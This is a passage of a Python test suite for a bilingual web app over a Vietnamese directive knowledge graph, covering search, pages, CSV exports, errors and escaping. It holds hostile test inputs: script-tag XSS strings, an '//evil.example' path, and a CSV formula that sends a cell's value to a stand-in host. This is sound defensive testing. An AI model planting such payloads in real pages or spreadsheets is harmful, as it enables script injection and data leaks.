"""The pages and their JSON twins, errors, escaping of hostile text, and offline resources."""

from __future__ import annotations

import importlib.util
import re
from html.parser import HTMLParser
from urllib.parse import quote, urljoin

import pytest

from test_web_support import (http,   # noqa: F401  (fixtures)
    DECREE_KEY, EVIL, EVIL_KEY, client, server, web_app, web_store,
)

HAS_ANALYTICS = importlib.util.find_spec("kg.analytics") is not None
needs_analytics = pytest.mark.skipif(not HAS_ANALYTICS, reason="kg.analytics (cascade_graph) has not landed yet")
HAS_ONTODOC = importlib.util.find_spec("kg.ontodoc") is not None
HAS_QUERIES = importlib.util.find_spec("kg.queries") is not None
needs_queries = pytest.mark.skipif(not HAS_QUERIES, reason="kg.queries has not landed yet")
HTML = {"Accept": "text/html"}


# --------------------------------------------------------------------------- keys in URLs


@pytest.mark.parametrize("path", [
    "/doc/46-NQ/TW", "/doc/46-NQ%2FTW", "/doc/" + DECREE_KEY, "/doc/" + quote("46-NQ/TW", safe=""),
    "/doc/" + quote(DECREE_KEY, safe="/"), "/doc/" + quote(DECREE_KEY, safe=""),
])
def test_document_keys_work_raw_and_encoded_over_http(server, path):
    r = http.get(server + path, headers=HTML)
    assert r.status_code == 200, (path, r.text[:300])
    assert "text/html" in r.headers["content-type"]
    j = http.get(server + path + ".json")
    assert j.status_code == 200 and j.json()["key"] in ("46-NQ/TW", DECREE_KEY)


# --------------------------------------------------------------------------- pages


def test_home_lists_central_documents_with_province_counts(client):
    r = client.get("/", headers=HTML)
    assert r.status_code == 200
    assert 'href="/doc/46-NQ/TW"' in r.text
    j = client.get("/index.json").json()
    central = {d["key"]: d for d in j["central"]}
    assert central["46-NQ/TW"]["provinces"] >= 1
    assert j["newest"] and j["newest"][0]["date"] >= j["newest"][-1]["date"]


def test_home_says_what_each_newest_document_is_about_and_whose_it_is(client):
    newest = {d["key"]: d for d in client.get("/index.json").json()["newest"]}
    decree = newest[DECREE_KEY]
    assert (decree["subject"], decree["issuer"], decree["place"]) == ("chính sách thu hút, tạo nguồn cán bộ", "Chính phủ", None)
    assert newest[EVIL_KEY]["subject"] == newest[EVIL_KEY]["issuer"] == EVIL and newest[EVIL_KEY]["place"]
    listed = client.get("/", headers=HTML).text.split('id="newest"')[1].split("</section>")[0]
    assert ('>Nghị định 140/2017/NĐ-CP</a> · <span class="whose">Chính phủ</span>: '
            '<span class="subject" lang="vi">chính sách thu hút, tạo nguồn cán bộ</span>') in listed
    # a hostile subject and issuer escaped; near miss: a document the graph knows no issuer nor place of says its level
    assert EVIL not in listed and "&lt;script&gt;alert(1)&lt;/script&gt;" in listed
    # near misses: a body's name without its place in brackets is followed by the place; a document of no known
    # body is said by its place, else by its level
    from fastapi.testclient import TestClient
    from kg.rdf.files import parse_file
    from kg.store import Store
    from kg.web import create_app

    store = Store.open(None)
    store.main.extend(parse_file("ours.ttl", """@prefix dkg: <https://w3id.org/directive-kg/ontology#> .
        @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> . @prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
        @prefix id: <https://w3id.org/directive-kg/id/> .
        id:a dkg:key "3-KH/TU" ; dkg:dateIssued "2026-01-03"^^xsd:date ; dkg:issuer id:tu ; dkg:jurisdiction id:p .
        id:tu rdfs:label "Tỉnh ủy"@vi . id:p rdfs:label "Lào Cai"@vi .
        id:b dkg:key "2-KH/TU" ; dkg:dateIssued "2026-01-02"^^xsd:date ; dkg:jurisdiction id:p .
        id:c dkg:key "1-CV/TW" ; dkg:dateIssued "2026-01-01"^^xsd:date ;
            dkg:level <https://w3id.org/directive-kg/vocab/level/central> .""".encode()))
    ours = TestClient(create_app(store)).get("/", headers=HTML).text.split('id="newest"')[1]
    assert '>3-KH/TU</a> · <span class="whose">Tỉnh ủy, Lào Cai</span></li>' in ours
    assert '>2-KH/TU</a> · <span class="whose">Lào Cai</span></li>' in ours
    assert '>1-CV/TW</a> · <span class="whose">Trung ương</span></li>' in ours


@needs_queries
def test_home_search_without_diacritics(client):
    j = client.get("/index.json", params={"q": "nong dan"}).json()
    assert j["search"]["rows"], j["search"]
    r = client.get("/", params={"q": "nong dan"}, headers=HTML)
    assert r.status_code == 200 and 'id="results"' in r.text
    # said as the query pages say them: headers and levels in the page's language, not the query's codes
    results = r.text.split('id="results"')[1].split("</section>")[0]
    # (the documents' column names them, those without a number too: headed as documents, not as numbers)
    assert "<th>Văn bản</th><th>Tên</th><th>Loại</th><th>Cấp</th><th>Địa bàn</th><th>Ngày</th>" in results
    assert re.search(r"<td[^>]*>Trung ương</td>", results) and "central" not in results and '<a href="/doc/46-NQ/TW">46-NQ/TW</a>' in results
    en = client.get("/", params={"q": "nong dan", "lang": "en"}, headers=HTML).text.split('id="results"')[1]
    assert "<th>Document</th>" in en and '<a href="/doc/46-NQ/TW?lang=en">' in en
    assert any(row.get("level") == "central" for row in j["search"]["rows"])  # (the JSON keeps the codes)


def test_home_search_takes_a_key_glued_to_its_number_and_names_a_merged_province_s_before_and_after(client):
    glued = client.get("/index.json", params={"q": "NQ46"}).json()["search"]
    assert glued["searched"] == "NQ 46" and any(r["key"] == "46-NQ/TW" for r in glued["rows"])
    assert "Tìm theo “NQ 46”" in client.get("/", params={"q": "NQ46"}, headers=HTML).text
    assert "searched" not in client.get("/index.json", params={"q": "46-NQ/TW"}).json()["search"]  # found as typed
    merged = client.get("/index.json", params={"q": "bac kan"}).json()["search"]["merger"]
    assert merged == {"before": ["Bắc Kạn", "Thái Nguyên"], "after": "Thái Nguyên"}
    page = client.get("/", params={"q": "Thái Nguyên"}, headers=HTML).text
    assert "Từ ngày 1/7/2025, Bắc Kạn, Thái Nguyên hợp nhất thành tỉnh Thái Nguyên" in page
    assert '<a href="/?q=B%E1%BA%AFc+K%E1%BA%A1n">Bắc Kạn</a>' in page
    en = client.get("/", params={"q": "Thái Nguyên", "lang": "en"}, headers=HTML).text
    assert "merged into the province of Thái Nguyên" in en
    # near miss: a province the reform left alone
    assert "merger" not in client.get("/index.json", params={"q": "Lạng Sơn"}).json()["search"]


def test_a_province_s_name_finds_its_documents_not_those_whose_words_hold_its_two_halves(client):
    """"Bình Định" found Ninh Bình's "Quyết định 140-QĐ/TU": the index finds each word anywhere ("Bình" of its
    place, "định" of its title). A province's name is matched whole, in the place or in the title or subject."""
    assert [r["key"] for r in client.get("/index.json", params={"q": "Bình Định"}).json()["search"]["rows"]] == []
    page = client.get("/", params={"q": "binh dinh"}, headers=HTML).text
    assert "hợp nhất thành tỉnh Gia Lai" in page  # (what it became is still said)
    # near misses: the province's own name finds it; words that are no province's name keep matching anywhere
    ninh_binh = client.get("/index.json", params={"q": "Ninh Bình"}).json()["search"]["rows"]
    assert "140-QĐ/TU" in {r["key"] for r in ninh_binh} and all("Ninh Bình" in r["place"] for r in ninh_binh)
    words = client.get("/index.json", params={"q": "quyet dinh binh"}).json()["search"]["rows"]
    assert "140-QĐ/TU" in {r["key"] for r in words}


def test_home_search_names_a_commune_before_and_after_the_reform(client):
    found = client.get("/index.json", params={"q": "thi tran thinh vuong"}).json()["search"]["communes"]
    assert found == [{"before": "Thị trấn Thịnh Vượng, Huyện Gia Viễn, Ninh Bình", "after": "Xã Gia Viễn, Ninh Bình",
                      "search": "Gia Viễn"}]
    new = client.get("/index.json", params={"q": "xã Gia Viễn"}).json()["search"]["communes"]
    assert {c["before"] for c in new} >= {"Thị trấn Thịnh Vượng, Huyện Gia Viễn, Ninh Bình",
                                           "Xã Gia Hòa, Huyện Gia Viễn, Ninh Bình"}  # what the new commune was made of
    page = client.get("/", params={"q": "thi tran thinh vuong"}, headers=HTML).text
    assert '<li>Thị trấn Thịnh Vượng, Huyện Gia Viễn, Ninh Bình → <a href="/?q=Gia+Vi%E1%BB%85n">Xã Gia Viễn, Ninh Bình</a></li>' in page
    # near misses: typed with its marks, a name is matched with them ("Gia Viễn" is not Hải Phòng's "Gia Viên");
    # a province's name is no commune's; the kind word typed is kept ("thị trấn", not Cao Bằng's "xã Thịnh Vượng")
    marked = client.get("/index.json", params={"q": "Gia Viễn"}).json()["search"]["communes"]
    assert all("Gia Viên" not in c["after"] for c in marked)
    assert "communes" not in client.get("/index.json", params={"q": "Ninh Bình"}).json()["search"]
    assert len(found) == 1


def test_english_with_lang_parameter(client):
    vi = client.get("/doc/46-NQ/TW", headers=HTML).text
    en = client.get("/doc/46-NQ/TW?lang=en", headers=HTML).text
    assert "Được triển khai bởi" in vi and "Implemented by" in en
    assert 'lang="en"' in en and 'href="/doc/115-CTr/TU?lang=en"' in en


def test_document_card_shows_links_tasks_targets_events_and_quotes(client):
    j = client.get(f"/doc/{EVIL_KEY}.json").json()
    assert j["implements"][0]["key"] == "46-NQ/TW"
    task = j["tasks"][0]
    assert task["leadBody"][0]["href"] == "/bodies/legacy-99/evil"
    quote_ = task["sources"][0]["quotes"][0]
    assert quote_["exact"].endswith(EVIL) and quote_["prefix"] == "Theo kế hoạch, "
    outcome = j["targets"][0]["outcomes"][0]
    assert outcome["achievement_percent"] == 80.0 and outcome["status_code"] == "partly"
    assert j["events"][0]["date"] == "2025-07-01"
    page = client.get("/doc/" + EVIL_KEY, headers=HTML).text
    for text in ("Kết nạp từ 1.500 hội viên", "80%", "Theo kế hoạch", "tổ chức quán triệt nghị quyết"):
        assert text in page
    back = client.get("/doc/46-NQ/TW.json").json()
    assert EVIL_KEY in [x["key"] for x in back["implemented_by"]]


def test_body_page_and_twin(client):
    r = client.get("/bodies/central/bo-chinh-tri", headers=HTML)
    assert r.status_code == 200 and "46-NQ/TW" in r.text
    j = client.get("/bodies/central/bo-chinh-tri.json").json()
    assert "46-NQ/TW" in [d["key"] for d in j["issued"]]


@pytest.mark.skipif(not HAS_ONTODOC, reason="kg.ontodoc has not landed yet")
def test_ontology_page(client):
    r = client.get("/ontology", headers=HTML)
    assert r.status_code == 200 and "Resolution" in r.text
    assert client.get("/ontology.json").status_code == 200
    # the page links its JSON-LD twin and the way back, as every other page does
    assert 'href="/ontology.json"' in r.text and 'href="/"' in r.text


def test_docs_page_is_served_locally(client):
    r = client.get("/docs", headers=HTML)
    assert r.status_code == 200
    assert "/static/vendor/swagger-ui-5.17.14/swagger-ui-bundle.js" in r.text
    assert client.get("/static/vendor/swagger-ui-5.17.14/swagger-ui-bundle.js").status_code == 200
    assert "/sparql" in client.get("/openapi.json").json()["paths"]


@needs_queries
def test_the_timeline_page_names_its_events_kinds(client):
    """The page of `timeline` showed an event's kind as its code ("final-review"); it says it as the cards do,
    in the page's language, and its twin keeps the code (newcomer27's walk)."""
    rows = client.get("/queries/timeline.json", params={"place": "Ninh Bình"}).json()["rows"]
    assert ("event", "final-review") in {(r["what"], r["type"]) for r in rows}
    vi = client.get("/queries/timeline", params={"place": "Ninh Bình"}, headers=HTML).text
    en = client.get("/queries/timeline", params={"place": "Ninh Bình", "lang": "en"}, headers=HTML).text
    assert ">Sự kiện: Tổng kết<" in vi and ">Event: Final review<" in en and "final-review" not in vi + en


def _empty_timeline_noted(client, params: dict[str, str], code: str) -> tuple[str, str]:
    """The timeline page for ``params`` in Vietnamese and English, once its JSON twin is checked to answer no row and
    carry the note ``code``."""
    twin = client.get("/queries/timeline.json", params=params).json()
    assert twin["rows"] == [] and twin["note"]["code"] == code
    return (client.get("/queries/timeline", params=params, headers=HTML).text,
            client.get("/queries/timeline", params={**params, "lang": "en"}, headers=HTML).text)


@needs_queries
def test_an_empty_query_page_of_an_old_district_says_the_level_is_gone_in_both_languages(client):
    """`/queries/timeline?place=Vĩnh Yên` (the old city of Vĩnh Phúc) answered no row and no word where `dkg query`
    notes it (newcomer30): the page says it, from the same rule, and its twin carries it."""
    params = {"place": "Vĩnh Yên"}
    vi, en = _empty_timeline_noted(client, params, "note.district-gone")
    assert "Thành phố Vĩnh Yên (Vĩnh Phúc) là đơn vị cấp huyện" in vi and "place=&#39;Phú Thọ&#39;" in vi
    assert "điền ngày 30/6/2025 vào ô ngày" in vi and "-p as_of" not in vi
    assert "was a district, which the two-level reform did away with" in en and "give the day 30/6/2025 in the form" in en
    # an old province merged away is said too; near misses: the old map's day, a province of today
    merged = client.get("/queries/timeline.json", params={"place": "Vĩnh Phúc"}).json()
    assert merged["note"]["code"] == "note.merged-place" if not merged["rows"] else "note" not in merged
    before = client.get("/queries/timeline.json", params={**params, "as_of": "2025-06-30"}).json()
    assert "note" not in before
    assert "note" not in client.get("/queries/timeline.json", params={"place": "Phú Thọ"}).json()


@needs_queries
def test_an_empty_query_page_of_a_ward_of_today_says_what_it_was_read_as(client):
    """review30: `/queries/timeline?place=phường Hoàn Kiếm` (a ward of today's Hà Nội, read as the old Quận Hoàn Kiếm)
    said the district was gone as if it had been asked for: the page says it is a ward, what the filter read it as and
    the province to ask for, from the rule `dkg query` notes by; its twin carries the code."""
    vi, en = _empty_timeline_noted(client, {"place": "phường Hoàn Kiếm"}, "note.ward-read-as-district")
    assert "Phường Hoàn Kiếm là đơn vị cấp xã của Hà Nội" in vi and "place=&#39;Hà Nội&#39;" in vi
    assert "được đọc là Quận Hoàn Kiếm (Hà Nội) cũ" in vi and "ô tìm kiếm của trang chủ" in vi and "/?q=" not in vi
    assert "read as the old district Quận Hoàn Kiếm (Hà Nội)" in en and "là đơn vị cấp huyện" not in vi
    # near miss: no ward of that name today, the district note stays
    gone = client.get("/queries/timeline.json", params={"place": "phường Nam Từ Liêm"}).json()
    assert gone["note"]["code"] == "note.district-gone"


@needs_queries
def test_an_empty_query_page_escapes_markup_in_the_place_it_was_given(client):
    """Hostile input: a place with markup in it names no place, and the page that says so shows it as text, never as
    HTML; it earns no ward note (the note names units as the map spells them, never as typed)."""
    hostile = "phường <script>alert(1)</script>Hoàn Kiếm"
    page = client.get("/queries/timeline", params={"place": hostile}, headers=HTML)
    assert page.status_code == 404
    assert "<script>alert(1)" not in page.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "note" not in client.get("/queries/timeline.json", params={"place": hostile}).json()


def test_named_queries_over_http(client):
    from kg import queries

    listing = client.get("/queries.json").json()
    assert {q["name"] for q in listing} == {q.name for q in queries.catalog()}
    assert client.get("/queries", headers=HTML).status_code == 200
    r = client.get("/queries/search.json", params={"q": "nong dan"})
    assert r.status_code == 200
    same = queries.run(client.app.state.store, "search", {"q": "nong dan"}).to_json()
    assert r.json() == same
    csv_ = client.get("/queries/search.csv", params={"q": "nong dan"})
    assert csv_.headers["content-type"].startswith("text/csv")
    assert csv_.text.splitlines()[0] == ",".join(r.json()["columns"])
    assert csv_.headers["content-disposition"] == 'attachment; filename="search.csv"'
    # for Excel, which reads a CSV without a byte-order mark in the system's old code page
    excel = client.get("/queries/search.csv", params={"q": "nong dan", "excel": "1"})
    assert excel.content == b"\xef\xbb\xbf" + csv_.content
    html = client.get("/queries/search", params={"q": "nong dan"}, headers=HTML)
    assert html.status_code == 200 and "<table" in html.text
    assert 'href="/queries/search.csv?q=nong+dan&amp;excel=1">CSV cho Excel</a>' in html.text


@needs_queries
def test_a_query_s_table_for_a_report_is_the_page_s_table_in_its_words(client):
    """An analyst pasting the targets into a Word report had a CSV of codes ("pending", "province"), English column
    names and addresses first. The report's CSV is the page's table: its headers and words in the page's language,
    a target's figure and its assessment each in one cell, no address, with the mark Excel needs to read UTF-8."""
    import csv
    import io

    params = {"doc": "46-NQ/TW"}
    page = client.get("/queries/targets", params=params, headers=HTML).text
    assert 'href="/queries/targets.csv?doc=46-NQ%2FTW&amp;report=1"' in page
    report = client.get("/queries/targets.csv", params={**params, "report": "1"})
    assert report.headers["content-disposition"] == 'attachment; filename="targets-report.csv"'
    assert report.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(report.text.lstrip("\ufeff"))))
    headers = re.findall(r"<th[^>]*>([^<]*)</th>", page.split('<table', 1)[1].split("</thead>")[0])
    assert rows[0] == headers and rows[0][:3] == ["Đặt ra tại", "Nội dung", "Mức chỉ tiêu"]
    assert len(rows) - 1 == len(client.get("/queries/targets.json", params=params).json()["rows"])
    assert "https://w3id.org" not in report.text and "pending" not in report.text and "chưa có kết quả" in report.text
    assert any(cell.startswith("≥ 1.500 ") for row in rows[1:] for cell in row)
    en = client.get("/queries/targets.csv", params={**params, "report": "1", "lang": "en"}).text
    assert en.lstrip("\ufeff").startswith("Set by,") and "pending" in en
    # near miss: the CSV for scripts keeps the columns' names and codes
    assert client.get("/queries/targets.csv", params=params).text.startswith("target,set_by,")


@needs_queries
@pytest.mark.parametrize("name, params, column, code, vi, en", [
    ("reviews-due", {"date": "2030-01-01"}, "review", "interim", "Sơ kết", "Interim review"),
    ("timeline", {"place": "Lạng Sơn"}, "what", "document", "Văn bản: Chương trình", "Document: Programme"),
    ("coverage", {"doc": "46-NQ/TW"}, "status", "none", "Chưa có văn bản", "No document yet"),
    ("coverage", {"doc": "46-NQ/TW"}, "kind", "province", "Tỉnh", "Province"),
    ("bodies", {}, "kind", "party-committee", "Cấp ủy", "Party committee")])
def test_a_query_page_says_its_codes_in_the_pages_language(client, name, params, column, code, vi, en):
    """A due review's kind, a timeline entry's kind, a province's coverage and a body's kind are words on the
    page (all but the last in the CLI's table too), as a level is; the JSON twin keeps the code."""
    rows = client.get(f"/queries/{name}.json", params=params).json()["rows"]
    assert any(r[column] == code for r in rows)
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", client.get(f"/queries/{name}", params=params, headers=HTML).text)
    assert vi in cells and code not in cells
    assert en in re.findall(r"<td[^>]*>([^<]*)</td>", client.get(f"/queries/{name}", params={**params, "lang": "en"}, headers=HTML).text)


@needs_queries
def test_a_query_page_without_rows_says_so_instead_of_an_empty_table(client):
    page = client.get("/queries/outcomes", params={"doc": "46-NQ/TW", "date": "1990-01-01"}, headers=HTML).text
    assert "0 dòng" in page and '<p class="muted empty">Không có.</p>' in page and "<table" not in page
    assert "<table" in client.get("/queries/outcomes", params={"doc": "46-NQ/TW"}, headers=HTML).text


@needs_queries
def test_the_coverage_page_leaves_off_the_units_address(client):
    """A unit's address tells a reader nothing: the page names it (name, code); the JSON twin keeps it."""
    assert "unit" in client.get("/queries/coverage.json", params={"doc": "46-NQ/TW"}).json()["columns"]
    page = client.get("/queries/coverage", params={"doc": "46-NQ/TW"}, headers=HTML).text
    assert "id:place/" not in page and re.search(r"<td[^>]*>Lạng Sơn</td>", page)


@needs_queries
def test_named_query_parameter_errors_are_the_clis(client):
    r = client.get("/queries/search.json")  # q is required
    assert r.status_code == 400 and r.json()["error"] == "usage"
    r = client.get("/queries/no-such-query.json")
    assert r.status_code == 404 and r.json()["error"] == "not-found"


@needs_queries
def test_a_named_query_s_bad_parameter_values_are_said_in_the_page_s_language_and_the_twin_s(client):
    """A limit that is no number, a negative or too large one, two days, an unknown key: in Vietnamese on the page
    (they were English there), in English in the JSON twin unless it asks for ?lang=vi."""
    page = client.get("/queries/bodies", params={"limit": "mười"}, headers=HTML)
    assert page.status_code == 400 and "tham số limit=&#39;mười&#39; của truy vấn bodies không phải là một số nguyên" \
        in page.text and "not an integer" not in page.text
    assert "bodies nhận: doc: văn bản (số hiệu)" in page.text
    twin = client.get("/queries/bodies.json", params={"limit": "mười"})
    assert twin.status_code == 400 and twin.json()["message"] == "parameter limit='mười' of query bodies is not an integer"
    assert "-p limit=10" in twin.json()["hint"]
    said = client.get("/queries/bodies.json", params={"limit": "1001", "lang": "vi"}).json()
    assert said["message"] == "tham số limit='1001' của truy vấn bodies lớn hơn mức tối đa 1000"
    assert "không được là số âm" in client.get("/queries/bodies", params={"limit": "-1"}, headers=HTML).text
    both = client.get("/queries/cascade", params={"doc": "46-NQ/TW", "date": "2024-01-01", "as_of": "2025-01-01"},
                      headers=HTML)
    assert both.status_code == 400 and "là hai ngày khác nhau" in both.text
    missing = client.get("/queries/cascade", params={"doc": "KHONG-CO/TW"}, headers=HTML)
    assert missing.status_code == 404 and "trong kho không có văn bản nào có số hiệu" in missing.text
    # near miss: a limit in range is no error
    assert client.get("/queries/bodies.json", params={"limit": "1000"}).status_code == 200


@needs_analytics
def test_graph_page_and_twin(client):
    r = client.get("/graph/46-NQ/TW", headers=HTML)
    assert r.status_code == 200 and 'class="dkg-cascade"' in r.text and "/static/viz/cascade.js" in r.text
    j = client.get("/graph/46-NQ/TW.json").json()
    assert j["nodes"] and all(n["href"].startswith("/doc/") for n in j["nodes"])


# --------------------------------------------------------------------------- errors


def test_errors_json_for_api_and_html_for_pages(client):
    r = client.get("/doc/NO-SUCH/TW.json")
    assert r.status_code == 404
    assert r.json()["error"] == "not-found" and "NO-SUCH/TW" in r.json()["message"]
    r = client.get("/doc/NO-SUCH/TW", headers=HTML)
    assert r.status_code == 404 and r.headers["content-type"].startswith("text/html")
    r = client.get("/no/such/page")
    assert r.status_code == 404 and set(r.json()) >= {"error", "message"}
    r = client.put("/sparql")
    assert r.status_code == 405 and r.json()["error"] == "method-not-allowed"


def test_unexpected_errors_are_500_without_a_traceback(web_store, monkeypatch):
    from fastapi.testclient import TestClient

    from kg import cards
    from kg.web import create_app

    def broken(*a, **k):
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr(cards, "home", broken)
    c = TestClient(create_app(web_store), raise_server_exceptions=False)
    r = c.get("/index.json")
    assert r.status_code == 500
    assert r.json()["error"] == "internal" and "secret" not in r.text and "Traceback" not in r.text
    r = c.get("/", headers=HTML)
    assert r.status_code == 500 and "secret" not in r.text
    # said in the page's language, with what to do (a reader of a Vietnamese page met an English line before)
    assert "máy chủ gặp lỗi không lường trước" in r.text and "báo người vận hành máy chủ" in r.text
    assert "internal server error" not in r.text
    en = c.get("/?lang=en", headers=HTML).text
    assert "internal server error (a bug: see the server log)" in en and "tell the server&#39;s operator" in en
    # near miss: a client's JSON stays in English, its words as they were
    assert r.status_code == 500 and c.get("/index.json").json()["message"] == "internal server error (a bug: see the server log)"


# --------------------------------------------------------------------------- hostile text


def _pages(client) -> list[str]:
    paths = ["/", "/?q=alert", f"/doc/{EVIL_KEY}", "/bodies/legacy-99/evil", "/doc/46-NQ/TW"]
    if HAS_ANALYTICS:
        paths.append("/graph/46-NQ/TW")
    return paths


def test_hostile_labels_are_escaped_everywhere(client):
    for path in _pages(client):
        r = client.get(path, headers=HTML)
        assert r.status_code == 200, path
        assert "<script>alert(1)" not in r.text, path
        assert "<img src=x" not in r.text, path
        assert 'href="javascript:' not in r.text, path
    page = client.get(f"/doc/{EVIL_KEY}", headers=HTML).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text


# --------------------------------------------------------------------------- offline


class _Resources(HTMLParser):
    """URLs a page makes the browser load (not plain links a user may follow)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag in ("script", "img", "iframe", "audio", "video", "source", "embed") and a.get("src"):
            self.urls.append(a["src"])
        if tag == "link" and a.get("href"):
            self.urls.append(a["href"])
        if tag == "object" and a.get("data"):
            self.urls.append(a["data"])


def _foreign(urls, origin: str) -> list[str]:
    out = []
    for u in urls:
        full = urljoin(origin + "/", u)
        if full.startswith(("http://", "https://", "//")) and not full.startswith(origin + "/"):
            out.append(u)
    return out


def test_no_page_loads_anything_from_another_origin(client):
    origin = "http://testserver"
    paths = _pages(client) + ["/validate", "/docs", "/queries", "/sparql", "/doc/46-NQ/TW?lang=en"]
    if HAS_ONTODOC:
        paths.append("/ontology")
    for path in paths:
        r = client.get(path, headers=HTML)
        if r.status_code != 200:
            continue
        parser = _Resources()
        parser.feed(r.text)
        assert not _foreign(parser.urls, origin), (path, _foreign(parser.urls, origin))
        css_urls = re.findall(r"url\(\s*['\"]?([^'\")]+)", r.text)
        assert not _foreign([u for u in css_urls if not u.startswith("data:")], origin), path
        for u in parser.urls:  # and the scripts and styles they load say nothing either
            if u.endswith(".css"):
                css = client.get(urljoin(path, u)).text
                found = [x for x in re.findall(r"url\(\s*['\"]?([^'\")]+)", css) if not x.startswith("data:")]
                assert not _foreign(found, origin), (u, found)
    assert "cdn.jsdelivr" not in client.get("/docs").text


def test_language_switch_never_links_to_another_host(client):
    r = client.get("//evil.example/x", headers=HTML)
    assert r.status_code == 404
    assert 'href="//evil.example' not in r.text


@needs_analytics
@pytest.mark.parametrize("path", ["/graph/" + DECREE_KEY, "/graph/" + quote(DECREE_KEY, safe=""),
                                  "/graph/46-NQ%2FTW"])
def test_graph_urls_take_keys_raw_and_encoded(server, path):
    r = http.get(server + path + ".json")
    assert r.status_code == 200, r.text
    assert r.json()["key"] in (DECREE_KEY, "46-NQ/TW")
    assert http.get(server + path, headers=HTML).status_code == 200


@needs_queries
def test_named_query_with_a_key_parameter(client):
    from kg import queries

    entry = queries.get("cascade")
    name = entry.parameters[0].name
    r = client.get("/queries/cascade.json", params={name: "46-NQ/TW"})
    assert r.status_code == 200, r.text
    assert r.json() == queries.run(client.app.state.store, "cascade", {name: "46-NQ/TW"}).to_json()


@pytest.mark.parametrize("lang,review,changes", [("vi", "Duyệt dữ kiện", "Thay đổi mới"),
                                                 ("en", "Review", "What changed")])
def test_every_page_leads_to_the_review_queue_and_the_changes(client, lang, review, changes):
    """An analyst who lands on any page finds where to check facts and what a load changed."""
    suffix = "?lang=en" if lang == "en" else ""
    for path in ("/", "/doc/46-NQ/TW", "/queries", "/bodies"):
        page = client.get(path + suffix, headers=HTML).text
        nav = page[page.index("<nav>"):page.index("</nav>")]
        assert f'href="/review{suffix}">{review}</a>' in nav and f'href="/changes{suffix}">{changes}</a>' in nav
    for path in ("/review", "/changes"):
        assert client.get(path + suffix, headers=HTML).status_code == 200


def test_days_are_marked_to_stay_on_one_line(client):
    home = client.get("/", headers=HTML).text
    assert re.search(r'<td class="date"[^>]*>\d{2}/\d{2}/\d{4}</td>', home)
    css = re.search(r'href="([^"]*site\.css)"', home)[1]
    assert ".date { white-space: nowrap; }" in client.get(css).text
    cascade = client.get("/queries/cascade", params={"doc": "46-NQ/TW"}, headers=HTML).text
    assert re.search(r'<td class="date"[^>]*>\d{2}/\d{2}/\d{4}</td>', cascade)
    english = client.get("/queries/cascade", params={"doc": "46-NQ/TW", "lang": "en"}, headers=HTML).text
    assert re.search(r'<td class="date"[^>]*>\d{4}-\d{2}-\d{2}</td>', english)


def test_an_error_page_says_the_error_in_the_page_s_language(client):
    vi = client.get("/doc/NOPE-KH/XX", headers=HTML)
    assert vi.status_code == 404 and "không có văn bản nào có số hiệu" in vi.text and "no document" not in vi.text
    en = client.get("/doc/NOPE-KH/XX", params={"lang": "en"}, headers=HTML)
    assert en.status_code == 404 and "không có văn bản" not in en.text
    api = client.get("/doc/NOPE-KH/XX.json")  # an API client that did not ask for Vietnamese: English, as before
    assert api.status_code == 404 and "không" not in api.json()["message"]


def test_a_source_a_fact_was_curated_from_says_why_it_has_no_sentence(client):
    """A card's sources list both the articles facts were extracted from (a link to the review page and
    the sentence) and those an editor recorded facts from by hand (neither): the second says so, rather
    than look like a broken link beside the first."""
    sources = client.get("/doc/46-NQ/TW.json").json()["sources"]
    curated = [s for s in sources if s["how"] == "curatedFrom"]
    assert curated and all(not s["quotes"] and s["review"] is None for s in curated)
    page = client.get("/doc/46-NQ/TW", headers=HTML).text
    assert page.count("không có câu trích") == len(curated)
    english = client.get("/doc/46-NQ/TW?lang=en", headers=HTML).text
    assert english.count("without a quoted sentence") == len(curated)
    extracted = client.get(f"/doc/{EVIL_KEY}", headers=HTML).text  # near miss: extracted sources say nothing
    assert "Theo kế hoạch" in extracted and "không có câu trích" not in extracted


def test_a_ward_s_name_finds_the_documents_of_that_ward_also_after_a_reviewer_moved_one_there(memory_store, monkeypatch,
                                                                                            tmp_path):
    """A ward's plan carries its ward only in its IRI: "Tam Thanh" found nothing though the plan's card said
    "Phường Tam Thanh, Lạng Sơn" (a reviewer had moved it there from Đông Kinh, whose name its issuer still bears).
    The search now lists the documents of the 2025 commune or ward it names, once each."""
    from fastapi.testclient import TestClient

    from kg.review import decide, queue
    from kg.web import create_app
    from ward_plan import ingest_ward_plan

    ingest_ward_plan(memory_store, monkeypatch, tmp_path)
    c = TestClient(create_app(memory_store))

    def keys(q: str) -> list[tuple[str, str]]:
        return [(r["key"], r["place"]) for r in c.get("/index.json", params={"q": q}).json()["search"]["rows"]]

    assert keys("Đông Kinh") == [("08-KH/ĐU", "Phường Đông Kinh, Lạng Sơn")]  # (by its words and by its ward: once)
    assert keys("Tam Thanh") == []
    (fact,) = [e.item.id for e in queue(memory_store) if e.item.kind == "document"]
    decide(memory_store, [fact], "corrected", reviewer="Lê Văn An", changes={"place": "phường Tam Thanh, Lạng Sơn"})
    assert keys("Tam Thanh") == keys("phuong tam thanh") == [("08-KH/ĐU", "Phường Tam Thanh, Lạng Sơn")]
    page = c.get("/", params={"q": "Tam Thanh"}, headers=HTML).text.split('id="results"')[1].split("</section>")[0]
    assert "08-KH/ĐU" in page and "Phường Tam Thanh, Lạng Sơn" in page
    # near misses: the commune of that name in another province has none; the kind word typed is kept
    assert keys("xã Tam Thanh") == []
    assert keys("Đông Kinh") == [("08-KH/ĐU", "Phường Tam Thanh, Lạng Sơn")]  # (its issuer's name still holds it)


@needs_queries
def test_a_report_csv_never_hands_excel_a_formula_from_an_article(tmp_path):
    """A target's sentence comes from an article; in the report's CSV (and the CSV for Excel) a sentence that begins
    as a formula would ("=HYPERLINK(...)") is kept as text, while the CSV for scripts keeps it as it was."""
    import csv
    import io

    from fastapi.testclient import TestClient

    from kg.rdf.files import parse_file
    from kg.store import Store
    from kg.web import create_app

    store = Store.bundled()
    (doc,) = [row["d"].value for row in store.main.query(
        'SELECT DISTINCT ?d WHERE { GRAPH ?g { ?d <https://w3id.org/directive-kg/ontology#key> "46-NQ/TW" } }')]
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem chi tiết")'
